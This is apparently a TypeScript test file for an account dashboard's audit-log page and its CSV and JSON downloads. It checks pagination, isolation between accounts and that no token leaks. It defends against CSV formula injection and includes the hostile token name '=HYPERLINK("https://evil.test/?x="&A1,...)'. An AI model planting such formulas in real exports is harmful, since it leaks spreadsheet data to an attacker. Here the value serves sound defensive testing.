import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { AuditEvent } from '../src/core/audit.ts';
import { api, startApiServer, tokensOf } from './helpers/api.ts';
import { DashboardClient, type Fields, type Page, visibleText as text } from './helpers/dashboard.ts';
import { createTestAccount, ManualClock, type TestServer } from './helpers/server.ts';

// The Activity page (the account's audit log) and its CSV and JSON downloads, as a signed-in owner
// sees them: what this file's own actions left there, in words, and never a secret.

const PASSWORD = 'correct horse battery staple';
const clock = new ManualClock(Date.UTC(2027, 2, 10, 8, 0, 0));
let server: TestServer;
let accounts = 0;

before(async () => {
  server = await startApiServer({ clock });
});
after(() => server.close());

async function signedIn(
  prefix: string,
): Promise<{ browser: DashboardClient; username: string; adminToken: string }> {
  const username = `${prefix}${++accounts}`;
  const account = await createTestAccount(server.services, username, [
    'tokens:read',
    'tokens:write',
    'audit:read',
  ]);
  const browser = new DashboardClient(server);
  await browser.signInOk(username);
  return { browser, username, adminToken: account.adminToken };
}

/** Posts a form from its page and answers the password confirmation when asked; insists it worked. */
async function act(browser: DashboardClient, page: string, path: string, fields: Fields): Promise<void> {
  clock.advance(1000);
  await browser.get(page);
  let answer = await browser.post(path, fields);
  if (answer.status === 403 && answer.text.includes('Confirm your password'))
    answer = await browser.post(path, { ...fields, password: PASSWORD });
  assert.equal(answer.status, 303, `${path}: ${answer.text.slice(0, 300)}`);
}

/** Every event of the account, newest first, as the service lists them. */
async function eventsOf(username: string): Promise<AuditEvent[]> {
  const events: AuditEvent[] = [];
  let start: string | undefined;
  do {
    const page = await server.services.audit.list({ kind: 'operator' }, username, {
      limit: 100,
      ...(start ? { start } : {}),
    });
    events.push(...page.events);
    start = page.next;
  } while (start);
  return events;
}

/** The audit table's rows, each as its cells' text. */
function rows(page: Page): string[][] {
  const body = /<table class="audit">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(page.text)?.[1] ?? '';
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...(row[1] ?? '').matchAll(/<t[hd]\b[^>]*>([\s\S]*?)<\/t[hd]>/g)].map((cell) => text(cell[1] ?? '')),
  );
}

/** The target ids the rows show, in order. */
function targets(page: Page): string[] {
  return [...page.text.matchAll(/<code class="id">([^<]+)<\/code>/g)].map((match) => match[1] ?? '');
}

function olderLink(page: Page): string | undefined {
  return /<a href="([^"]+)" rel="next">Older events<\/a>/.exec(page.text)?.[1]?.replaceAll('&amp;', '&');
}

/** RFC 4180 records, line breaks inside quotes included. */
function parseCsv(body: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const char = body[i];
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && body[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  assert.equal(field + record.join(''), '', 'the file ends with a line break');
  return records;
}

const TOKEN_PATTERN = /\b(pk|sk|tk)\.[A-Za-z0-9_-]{10,}/;

describe('the Activity page', () => {
  test('lists what the owner did, newest first, in words: who, channel, address and the token by name', async () => {
    const { browser, username } = await signedIn('owner');
    await act(browser, '/account/tokens/new', '/account/tokens', {
      note: 'Maps site',
      scopes: 'styles:read',
    });
    const id = (await tokensOf(server, username)).find((token) => token.note === 'Maps site')?.id ?? '';
    await act(browser, `/account/tokens/${id}/edit`, `/account/tokens/${id}/edit`, {
      note: 'Maps site v2',
      scopes: 'styles:read',
    });
    await act(browser, `/account/tokens/${id}/rotate`, `/account/tokens/${id}/rotate`, {
      gracePeriod: '3600',
    });
    await act(browser, `/account/tokens/${id}/delete`, `/account/tokens/${id}/delete`, {});

    const page = await browser.get('/account/audit');
    assert.equal(page.status, 200);
    assert.match(page.text, /<a href="\/account\/audit" aria-current="page">Activity<\/a>/);
    assert.match(page.text, /<h1>Activity<\/h1>/);
    const table = rows(page);
    const you = `You (${username})`;
    const mine = [
      ['Token deleted', you, 'Dashboard', '127.0.0.1', `“Maps site v2” (deleted) ${id}`],
      [
        'Token rotated, old token kept for 1 hour',
        you,
        'Dashboard',
        '127.0.0.1',
        `“Maps site v2” (deleted) ${id}`,
      ],
      ['Token updated: name', you, 'Dashboard', '127.0.0.1', `“Maps site v2” (deleted) ${id}`],
      ['Token created (public)', you, 'Dashboard', '127.0.0.1', `“Maps site v2” (deleted) ${id}`],
      ['Signed in', you, 'Dashboard', '127.0.0.1', 'Your account'],
    ];
    assert.deepEqual(
      table.slice(0, 5).map((row) => row.slice(1)),
      mine,
    );
    for (const row of table.slice(0, 5)) assert.match(row[0] ?? '', /^2027-03-10 08:00 UTC$/);
    // Before signing in: the account and its admin token, made at the command line.
    assert.deepEqual(
      table.slice(5).map((row) => row.slice(1, 5)),
      [
        ['Token created (secret)', 'Operator', 'Command line', 'None'],
        ['Account created', 'Operator', 'Command line', 'None'],
      ],
    );
    assert.equal(table.length, (await eventsOf(username)).length);
    assert.equal(olderLink(page), undefined, 'one page holds them all');
    assert.doesNotMatch(page.text, TOKEN_PATTERN, 'no token on the page');
  });

  test('50 events a page, newest first; Older events pages on through start, and back to the newest', async () => {
    const { browser, username } = await signedIn('busy');
    for (let i = 0; i < 60; i++) {
      clock.advance(1000);
      await server.services.tokens.create({ kind: 'operator' }, username, {
        note: `token ${i}`,
        scopes: ['styles:read'],
        allowedUrls: null,
        extensions: {},
        rateLimit: null,
        expiresAt: null,
      });
    }
    const all = await eventsOf(username);
    assert.equal(all.length, 63);
    const first = await browser.get('/account/audit');
    assert.equal(rows(first).length, 50);
    assert.deepEqual(
      targets(first),
      all
        .slice(0, 50)
        .filter((event) => event.target !== username)
        .map((event) => event.target),
    );
    assert.equal(rows(first)[0]?.[5], `“token 59” ${all[0]?.target}`);
    const older = olderLink(first);
    assert.equal(older, `/account/audit?start=${all[49]?.id}`);
    assert.doesNotMatch(first.text, /Newest events/);

    const second = await browser.get(older ?? '');
    assert.equal(second.status, 200);
    assert.equal(rows(second).length, 13);
    assert.deepEqual(
      rows(second).map((row) => row[1]),
      [...Array(10).fill('Token created (public)'), 'Signed in', 'Token created (secret)', 'Account created'],
    );
    assert.deepEqual(
      targets(second).slice(0, 10),
      all.slice(50, 60).map((event) => event.target),
    );
    assert.equal(olderLink(second), undefined, 'the oldest page has no Older events');
    assert.match(second.text, /<a href="\/account\/audit">Newest events<\/a>/);

    for (const start of ['nonsense', 'e'.padEnd(25, '0'), all[0]?.id.replace(/.$/, '_') ?? '']) {
      const bad = await browser.get(`/account/audit?start=${encodeURIComponent(start)}`);
      assert.equal(bad.status, 422, start);
      assert.match(bad.text, /That page of the log does not exist\. Here are the newest events\./);
      assert.equal(rows(bad).length, 50);
    }
  });

  test('another account’s events are not shown, even with its event id as start', async () => {
    const mallory = await signedIn('mallory');
    const victim = await signedIn('victim');
    const [theirs] = await eventsOf(victim.username);
    const page = await mallory.browser.get(`/account/audit?start=${theirs?.id}`);
    assert.equal(page.status, 422);
    assert.doesNotMatch(page.text, new RegExp(victim.username));
    for (const path of ['/account/audit', '/account/audit/export.csv', '/account/audit/export.json']) {
      const answer = await mallory.browser.get(path);
      assert.equal(answer.text.includes(victim.username), false, path);
    }
  });

  test('signed out, the page and the downloads send the browser to sign in', async () => {
    const anonymous = new DashboardClient(server);
    for (const path of ['/account/audit', '/account/audit/export.csv', '/account/audit/export.json']) {
      const answer = await anonymous.get(path);
      assert.equal(answer.status, 303, path);
      assert.equal(answer.location, `/signin?next=${encodeURIComponent(path)}`);
      assert.equal(answer.text, '');
    }
  });
});

describe('downloading the audit log', () => {
  const NOTES = [
    '=HYPERLINK("https://evil.test/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    'quoted "name", with comma',
  ];

  /** An account whose log names tokens with hostile names and holds a secret token's creation. */
  async function busyAccount(): Promise<{
    browser: DashboardClient;
    username: string;
    adminToken: string;
    secrets: string[];
  }> {
    const account = await signedIn('exporter');
    const secrets = [account.adminToken];
    const reveal = async () => {
      const page = await account.browser.get('/account');
      for (const match of page.text.matchAll(/value="((?:pk|sk)\.[^"]+)"/g)) secrets.push(match[1] ?? '');
    };
    for (const note of NOTES) {
      await act(account.browser, '/account/tokens/new', '/account/tokens', {
        note,
        scopes: ['styles:read', 'tokens:read'],
      });
      await reveal();
    }
    const last = (await tokensOf(server, account.username)).find((token) => token.note === NOTES.at(-1));
    await act(account.browser, `/account/tokens/${last?.id}/rotate`, `/account/tokens/${last?.id}/rotate`, {
      gracePeriod: '0',
    });
    await reveal();
    return { ...account, secrets };
  }

  test('CSV: an attachment with a header row, one quoted line per event, formulas neutralised, no secret', async () => {
    const { browser, username, secrets } = await busyAccount();
    const answer = await browser.get('/account/audit/export.csv');
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
    assert.equal(
      answer.headers.get('content-disposition'),
      `attachment; filename="tessera-audit-${username}-2027-03-10.csv"`,
    );
    assert.equal(answer.headers.get('cache-control'), 'no-store');
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');

    const [header, ...records] = parseCsv(answer.text);
    assert.deepEqual(header, [
      'time',
      'action',
      'description',
      'actor',
      'channel',
      'ip',
      'target',
      'target_name',
      'details',
      'id',
    ]);
    const events = await eventsOf(username);
    assert.deepEqual(
      records.map((record) => [record[9], record[0], record[1], record[3], record[4], record[5], record[6]]),
      events.map((event) => [
        event.id,
        event.time,
        event.action,
        event.actor,
        event.channel,
        event.ip ?? '',
        event.target,
      ]),
      'every event, newest first, as the API has it',
    );
    for (const record of records) assert.equal(record.length, 10);
    const names = records.filter((record) => record[1] === 'token.create').map((record) => record[7]);
    for (const note of NOTES) {
      const expected = /^[=+\-@]/.test(note) ? `'${note}` : note;
      assert.ok(names.includes(expected), `${note} is written as ${expected}`);
    }
    for (const cell of records.flat()) assert.doesNotMatch(cell, /^[=+\-@]/, 'no cell starts a formula');
    const rotation = records.find((record) => record[1] === 'token.rotate');
    assert.equal(rotation?.[2], 'Token rotated, no grace period');
    assert.equal(JSON.parse(rotation?.[8] ?? '{}').gracePeriod, 0);

    assert.ok(secrets.length >= 3 && secrets.some((secret) => secret.startsWith('sk.')));
    for (const secret of secrets) assert.equal(answer.text.includes(secret), false, 'a token in the file');
    assert.doesNotMatch(answer.text, TOKEN_PATTERN);
    assert.equal(answer.text.includes(PASSWORD), false);
    assert.equal(answer.text.includes(browser.cookie('tessera_session') ?? 'x'), false);
  });

  test('JSON: an attachment holding exactly what the audit API answers, no secret', async () => {
    const { browser, username, adminToken, secrets } = await busyAccount();
    const answer = await browser.get('/account/audit/export.json');
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-type'), 'application/json; charset=utf-8');
    assert.equal(
      answer.headers.get('content-disposition'),
      `attachment; filename="tessera-audit-${username}-2027-03-10.json"`,
    );
    const exported = JSON.parse(answer.text) as unknown[];
    const fromApi = await api(server, 'GET', `/audit/v1/${username}?limit=100`, { token: adminToken });
    assert.equal(fromApi.status, 200, fromApi.text);
    assert.deepEqual(exported, fromApi.body);
    assert.ok(exported.length > 8);
    for (const secret of secrets) assert.equal(answer.text.includes(secret), false);
    assert.doesNotMatch(answer.text, TOKEN_PATTERN);
    assert.equal(answer.text.includes(PASSWORD), false);
  });

  test('a log of more than one service page is exported whole', async () => {
    const { browser, username } = await signedIn('long');
    const operator = { kind: 'operator' } as const;
    for (let i = 0; i < 520; i++) {
      await server.services.tokens.create(operator, username, {
        note: `bulk ${i}`,
        scopes: [],
        allowedUrls: null,
        extensions: {},
        rateLimit: null,
        expiresAt: null,
      });
    }
    const events = await eventsOf(username);
    assert.ok(events.length > 500);
    const csv = parseCsv((await browser.get('/account/audit/export.csv')).text);
    assert.deepEqual(
      csv.slice(1).map((record) => record[9]),
      events.map((event) => event.id),
    );
    const json = JSON.parse((await browser.get('/account/audit/export.json')).text) as { id: string }[];
    assert.deepEqual(
      json.map((event) => event.id),
      events.map((event) => event.id),
    );
  });
});
